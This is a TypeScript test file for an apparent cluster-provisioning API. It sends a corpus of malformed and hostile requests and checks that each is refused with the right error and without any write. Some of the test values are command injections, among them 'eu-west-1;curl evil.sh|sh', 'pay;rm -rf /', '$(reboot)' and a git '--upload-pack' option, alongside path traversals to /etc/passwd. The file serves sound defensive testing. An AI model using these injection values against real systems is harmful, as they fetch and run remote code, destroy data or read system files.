/**
 * The bad-input corpus: malformed, hostile and boundary requests. Each is refused with the right
 * status and code, a message naming the offending field, and nothing written — neither to the
 * state table nor to the idempotency table.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EventOptions } from '../../support/api-events.js';
import {
  createOrganization,
  member,
  PLATFORM_ADMIN,
  provision,
  specFor,
} from '../../support/api-fixtures.js';
import { type ApiHarness, startApiHarness } from '../../support/api-harness.js';

let api: ApiHarness;
let org = '';
const env = 'corpus';
const ready = 'ready';

beforeAll(async () => {
  api = await startApiHarness();
  org = await createOrganization(api);
  await provision(api, org, ready);
});

afterAll(async () => {
  await api?.stop();
});

type Spec = ReturnType<typeof specFor> & Record<string, unknown>;

/** A valid spec for the corpus environment, changed by `change` (a deep copy each time). */
function spec(change: (draft: Spec) => void = () => undefined): Spec {
  const draft = structuredClone(specFor(org, env)) as Spec;
  change(draft);
  return draft;
}

interface Case {
  readonly name: string;
  readonly route: string;
  readonly request: () => EventOptions;
  readonly status: number;
  readonly code: string;
  /** The field the message and details must name. */
  readonly field: string;
}

/** The body is built when the test runs (`org` is only known after beforeAll). */
const putEnv =
  (body: unknown, extra: Partial<EventOptions> = {}) =>
  (): EventOptions => ({
    identity: member('org-admin', org),
    path: { org, env },
    body: typeof body === 'function' ? (body as () => unknown)() : body,
    ...extra,
  });
const put = (name: string, field: string, change: (draft: Spec) => void): Case => ({
  name,
  route: 'put-environment',
  request: putEnv(() => spec(change)),
  status: 400,
  code: 'validation.failed',
  field,
});
function pathOf(route: string): Record<string, string> {
  if (route === 'list-runs') return { org, env: ready };
  return route === 'list-organizations' ? {} : { org };
}
const list = (name: string, field: string, query: Record<string, string>, route = 'list-runs'): Case => ({
  name,
  route,
  request: () => ({
    identity: member('viewer', org),
    path: pathOf(route),
    query,
  }),
  status: 400,
  code: 'validation.failed',
  field,
});
const atPath = (
  name: string,
  field: string,
  path: Record<string, string>,
  route = 'put-environment',
): Case => ({
  name,
  route,
  request: () => ({ identity: PLATFORM_ADMIN, path, ...(route.startsWith('put') ? { body: spec() } : {}) }),
  status: 400,
  code: 'validation.failed',
  field,
});

function corpus(): Case[] {
  return [
    // --- malformed bodies and transport
    {
      name: 'truncated JSON',
      route: 'put-environment',
      request: putEnv('{"tier":'),
      status: 400,
      code: 'validation.failed',
      field: 'body',
    },
    {
      name: 'trailing garbage after JSON',
      route: 'put-environment',
      request: putEnv('{} x'),
      status: 400,
      code: 'validation.failed',
      field: 'body',
    },
    {
      name: 'empty body',
      route: 'put-environment',
      request: putEnv('', { headers: { 'content-type': 'application/json' } }),
      status: 400,
      code: 'validation.failed',
      field: 'body',
    },
    {
      name: 'invalid UTF-8',
      route: 'put-environment',
      request: putEnv(Buffer.from([0x7b, 0x22, 0xc3, 0x28, 0x22, 0x7d]), {
        headers: { 'content-type': 'application/json' },
      }),
      status: 400,
      code: 'validation.failed',
      field: 'body',
    },
    {
      name: 'base64 body that is not JSON',
      route: 'put-environment',
      request: putEnv('not json at all', { base64: true }),
      status: 400,
      code: 'validation.failed',
      field: 'body',
    },
    {
      name: 'JSON null',
      route: 'put-environment',
      request: putEnv('null'),
      status: 400,
      code: 'validation.failed',
      field: 'spec',
    },
    {
      name: 'JSON array',
      route: 'put-environment',
      request: putEnv('[]'),
      status: 400,
      code: 'validation.failed',
      field: 'spec',
    },
    {
      name: 'text/plain',
      route: 'put-environment',
      request: putEnv(() => JSON.stringify(spec()), { headers: { 'content-type': 'text/plain' } }),
      status: 415,
      code: 'unsupported-media-type',
      field: 'Content-Type',
    },
    {
      name: 'form-encoded',
      route: 'put-environment',
      request: putEnv('tier=dev', { headers: { 'content-type': 'application/x-www-form-urlencoded' } }),
      status: 415,
      code: 'unsupported-media-type',
      field: 'Content-Type',
    },
    {
      name: 'no Content-Type',
      route: 'post-run',
      request: () => ({
        identity: member('org-admin', org),
        path: { org, env: ready },
        body: '{"action":"resume"}',
        headers: { 'content-type': '' },
      }),
      status: 415,
      code: 'unsupported-media-type',
      field: 'Content-Type',
    },
    {
      name: 'body of 64 KiB + 1',
      route: 'put-environment',
      request: putEnv(`"${'x'.repeat(64 * 1024 - 1)}"`),
      status: 413,
      code: 'payload.too-large',
      field: 'body',
    },
    {
      name: 'a body on DELETE',
      route: 'delete-environment',
      request: () => ({ identity: member('org-admin', org), path: { org, env: ready }, body: '{}' }),
      status: 400,
      code: 'validation.failed',
      field: 'body',
    },
    // --- unknown fields
    put('unknown top-level field', 'force', (d) => {
      d.force = true;
    }),
    put('log retention CloudWatch does not offer', 'logs.retentionDays', (d) => {
      d.logs = { retentionDays: 31 };
    }),
    put('log retention as a string', 'logs.retentionDays', (d) => {
      (d as Record<string, unknown>).logs = { retentionDays: '30' };
    }),
    put('log retention that is not whole days', 'logs.retentionDays', (d) => {
      d.logs = { retentionDays: 30.5 };
    }),
    put('unknown logs field', 'logs.group', (d) => {
      (d as Record<string, unknown>).logs = { retentionDays: 30, group: '/slipway/other/prod/workloads' };
    }),
    put('unknown nested field', 'cluster.workers.gpu', (d) => {
      (d.cluster.workers as Record<string, unknown>).gpu = 1;
    }),
    put('unknown quota resource', 'namespaces.0.quota.gpus', (d) => {
      (d.namespaces[0]?.quota as Record<string, unknown>).gpus = '1';
    }),
    // --- missing and wrong values
    put('missing tier', 'tier', (d) => {
      delete (d as Record<string, unknown>).tier;
    }),
    put('unknown tier', 'tier', (d) => {
      (d as Record<string, unknown>).tier = 'production';
    }),
    put('unsupported Kubernetes version', 'kubernetesVersion', (d) => {
      (d as Record<string, unknown>).kubernetesVersion = '1.19';
    }),
    put('Kubernetes version as a YAML number (1.30 read as 1.3)', 'kubernetesVersion', (d) => {
      (d as Record<string, unknown>).kubernetesVersion = 1.3;
    }),
    put('Cilium version as a number', 'ciliumVersion', (d) => {
      (d as Record<string, unknown>).ciliumVersion = 1.16;
    }),
    put('memory as a number', 'namespaces.0.quota.memory', (d) => {
      (d.namespaces[0]?.quota as Record<string, unknown>).memory = 8;
    }),
    put('CPU that is not a quantity', 'namespaces.0.quota.cpu', (d) => {
      (d.namespaces[0]?.quota as Record<string, unknown>).cpu = 'lots';
    }),
    put('CPU as a number', 'namespaces.0.quota.cpu', (d) => {
      (d.namespaces[0]?.quota as Record<string, unknown>).cpu = 4;
    }),
    put('memory in GB (not a Kubernetes suffix)', 'namespaces.0.quota.memory', (d) => {
      (d.namespaces[0]?.quota as Record<string, unknown>).memory = '8GB';
    }),
    put('zero memory', 'namespaces.0.quota.memory', (d) => {
      (d.namespaces[0]?.quota as Record<string, unknown>).memory = '0';
    }),
    put('negative pods', 'namespaces.0.quota.pods', (d) => {
      (d.namespaces[0]?.quota as Record<string, unknown>).pods = -1;
    }),
    put('fractional pods', 'namespaces.0.quota.pods', (d) => {
      (d.namespaces[0]?.quota as Record<string, unknown>).pods = 1.5;
    }),
    put('even control plane', 'cluster.controlPlane.count', (d) => {
      d.cluster.controlPlane.count = 2;
    }),
    // --- networks
    put('pod CIDR overlapping the VPC', 'network.podCidr', (d) => {
      d.network.podCidr = '10.20.0.0/16';
    }),
    put('service CIDR overlapping the pods', 'network.serviceCidr', (d) => {
      d.network.serviceCidr = '10.244.0.0/16';
    }),
    put('public VPC range', 'network.vpcCidr', (d) => {
      d.network.vpcCidr = '8.8.0.0/16';
    }),
    put('prefix /33', 'network.vpcCidr', (d) => {
      d.network.vpcCidr = '10.20.0.0/33';
    }),
    // --- repositories
    put('http:// repository', 'gitops.repository', (d) => {
      d.gitops.repository = 'http://github.com/acme/platform-gitops.git';
    }),
    put('ssh repository', 'gitops.repository', (d) => {
      d.gitops.repository = 'git@github.com:acme/platform-gitops.git';
    }),
    put('credentials in the repository URL', 'gitops.repository', (d) => {
      d.gitops.repository = 'https://bot:s3cret@github.com/acme/x.git';
    }),
    put('file:// repository', 'gitops.repository', (d) => {
      d.gitops.repository = 'file:///etc/passwd';
    }),
    // --- hostile names and paths
    put('path traversal in the GitOps path', 'gitops.path', (d) => {
      d.gitops.path = '../../etc';
    }),
    put('absolute GitOps path', 'gitops.path', (d) => {
      d.gitops.path = '/etc/passwd';
    }),
    put('branch that is a git option', 'gitops.branch', (d) => {
      d.gitops.branch = '--upload-pack=touch /tmp/x';
    }),
    put('shell metacharacters in a namespace', 'namespaces.0.name', (d) => {
      if (d.namespaces[0]) d.namespaces[0].name = 'pay;rm -rf /';
    }),
    put('command substitution in a namespace', 'namespaces.0.name', (d) => {
      if (d.namespaces[0]) d.namespaces[0].name = '$(reboot)';
    }),
    put('upper-case namespace', 'namespaces.0.name', (d) => {
      if (d.namespaces[0]) d.namespaces[0].name = 'Payments';
    }),
    put('duplicate namespaces', 'namespaces.1.name', (d) => {
      d.namespaces.push(
        structuredClone(d.namespaces[0] ?? { name: 'x', quota: { cpu: '1', memory: '1Gi', pods: 1 } }),
      );
    }),
    put('namespace too long for <org>-<env>-<name>', 'namespaces.0.name', (d) => {
      if (d.namespaces[0]) d.namespaces[0].name = 'n'.repeat(50);
    }),
    put('shell in the region', 'region', (d) => {
      (d as Record<string, unknown>).region = 'eu-west-1;curl evil.sh|sh';
    }),
    // --- ingress and observability opt-ins
    put('wildcard ingress domain', 'ingress.domain', (d) => {
      (d as Record<string, unknown>).ingress = {
        domain: '*.apps.example.com',
        hostedZoneId: 'Z0123456789ABC',
      };
    }),
    put('upper-case ingress domain', 'ingress.domain', (d) => {
      (d as Record<string, unknown>).ingress = { domain: 'Apps.Example.com', hostedZoneId: 'Z0123456789ABC' };
    }),
    put('L7 visibility that is not a boolean', 'namespaces.0.observability.l7Http', (d) => {
      if (d.namespaces[0]) (d.namespaces[0] as Record<string, unknown>).observability = { l7Http: 'yes' };
    }),
    put('command substitution in an instance type', 'cluster.workers.instanceType', (d) => {
      d.cluster.workers.instanceType = '$(reboot)';
    }),
    atPath('shell metacharacters in the environment name', 'env', { org: 'acme', env: 'prod;ls' }),
    atPath('path traversal in the environment name', 'env', { org: 'acme', env: '../etc' }),
    atPath('path traversal in the organization name', 'org', { org: '..', env: 'prod' }),
    atPath('encoded traversal in the organization name', 'org', { org: '%2e%2e%2f', env: 'prod' }),
    atPath('upper-case environment name', 'env', { org: 'acme', env: 'Prod' }),
    atPath('environment name of 64 characters', 'env', { org: 'acme', env: 'e'.repeat(64) }),
    atPath('organization name with a space', 'org', { org: 'acme corp' }, 'put-organization'),
    atPath(
      'run id with a traversal',
      'runId',
      { org: 'acme', env: 'prod', runId: '../../etc/passwd' },
      'get-run',
    ),
    // --- query and headers
    list('limit 0', 'limit', { limit: '0' }),
    list('limit 101', 'limit', { limit: '101' }),
    list('limit not a number', 'limit', { limit: 'ten' }),
    list('negative limit', 'limit', { limit: '-1' }),
    list('limit given twice (joined by the gateway)', 'limit', { limit: '10,20' }),
    list('cursor with spaces', 'cursor', { cursor: 'a b' }),
    list('cursor that no page produced', 'cursor', { cursor: 'bm90LWEtY3Vyc29y' }),
    list('unknown query parameter', 'sort', { sort: 'asc' }, 'list-alerts'),
    list('member cursor that is not ours', 'cursor', { cursor: 'eyJrIjoxfQ' }, 'list-organizations'),
    {
      name: 'query parameter on a PUT',
      route: 'put-environment',
      request: putEnv(() => spec(), { query: { dryRun: 'true' } }),
      status: 400,
      code: 'validation.failed',
      field: 'dryRun',
    },
    {
      name: 'Idempotency-Key with spaces',
      route: 'put-environment',
      request: putEnv(() => spec(), { headers: { 'idempotency-key': 'my key' } }),
      status: 400,
      code: 'validation.failed',
      field: 'Idempotency-Key',
    },
    {
      name: 'Idempotency-Key of 256 characters',
      route: 'put-environment',
      request: putEnv(() => spec(), { headers: { 'idempotency-key': 'k'.repeat(256) } }),
      status: 400,
      code: 'validation.failed',
      field: 'Idempotency-Key',
    },
    // --- other bodies
    {
      name: 'unknown run action',
      route: 'post-run',
      request: () => ({
        identity: member('org-admin', org),
        path: { org, env: ready },
        body: { action: 'rollback' },
      }),
      status: 400,
      code: 'validation.failed',
      field: 'action',
    },
    {
      name: 'run action with an unknown field',
      route: 'post-run',
      request: () => ({
        identity: member('org-admin', org),
        path: { org, env: ready },
        body: { action: 'resume', force: true },
      }),
      status: 400,
      code: 'validation.failed',
      field: 'force',
    },
    {
      name: 'run request without action',
      route: 'post-run',
      request: () => ({ identity: member('org-admin', org), path: { org, env: ready }, body: {} }),
      status: 400,
      code: 'validation.failed',
      field: 'action',
    },
    {
      name: 'organization with maxEnvironments 0',
      route: 'put-organization',
      request: () => ({
        identity: PLATFORM_ADMIN,
        path: { org },
        body: { displayName: 'Acme', quota: { cpu: '8', memory: '8Gi', pods: 10 }, maxEnvironments: 0 },
      }),
      status: 400,
      code: 'validation.failed',
      field: 'maxEnvironments',
    },
    {
      name: 'organization quota that is not a quantity',
      route: 'put-organization',
      request: () => ({
        identity: PLATFORM_ADMIN,
        path: { org },
        body: { displayName: 'Acme', quota: { cpu: 'many', memory: '8Gi', pods: 10 }, maxEnvironments: 1 },
      }),
      status: 400,
      code: 'validation.failed',
      field: 'quota.cpu',
    },
    {
      name: 'organization with an unknown field',
      route: 'put-organization',
      request: () => ({
        identity: PLATFORM_ADMIN,
        path: { org },
        body: {
          displayName: 'Acme',
          quota: { cpu: '8', memory: '8Gi', pods: 10 },
          maxEnvironments: 1,
          owner: 'me',
        },
      }),
      status: 400,
      code: 'validation.failed',
      field: 'owner',
    },
    // --- tokens
    {
      name: 'no JWT claims',
      route: 'get-environment',
      request: () => ({ identity: null, path: { org, env: ready } }),
      status: 401,
      code: 'unauthorized',
      field: 'sub',
    },
    {
      name: 'a token without a Slipway role',
      route: 'get-environment',
      request: () => ({
        identity: { sub: 'intruder', role: 'root', orgs: [org] },
        path: { org, env: ready },
      }),
      status: 403,
      code: 'forbidden',
      field: 'role',
    },
  ];
}

describe('bad-input corpus', () => {
  it('has at least 40 requests', () => {
    expect(corpus().length).toBeGreaterThanOrEqual(40);
  });

  it.each(corpus().map((c) => [c.name, c] as const))(
    'refuses %s, naming the field, writing nothing',
    async (_name, c) => {
      const before = await api.scan();
      const idempotencyBefore = await api.scanIdempotency();

      const response = await api.call(c.route, c.request());

      expect(response.status, JSON.stringify(response.body)).toBe(c.status);
      expect(response.body.error?.code).toBe(c.code);
      expect(response.body.error?.message).toContain(c.field);
      if (c.code === 'validation.failed') {
        // Only the intended field is wrong: the rest of each request is valid.
        const fields = ((response.body.error?.details ?? []) as { field: string }[]).map((d) => d.field);
        expect([...new Set(fields)]).toEqual([c.field]);
      }
      expect(Object.keys(response.body)).toEqual(['error']);
      expect(await api.scan()).toEqual(before);
      expect(await api.scanIdempotency()).toEqual(idempotencyBefore);
    },
  );
});
